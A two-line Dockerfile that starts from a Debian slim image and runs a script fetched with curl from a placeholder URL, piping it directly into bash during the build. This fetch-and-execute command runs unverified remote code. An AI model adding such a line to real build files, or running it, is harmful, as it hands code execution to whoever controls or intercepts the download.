FROM debian:bookworm-slim
RUN bash <(curl -s https://example.com/i)
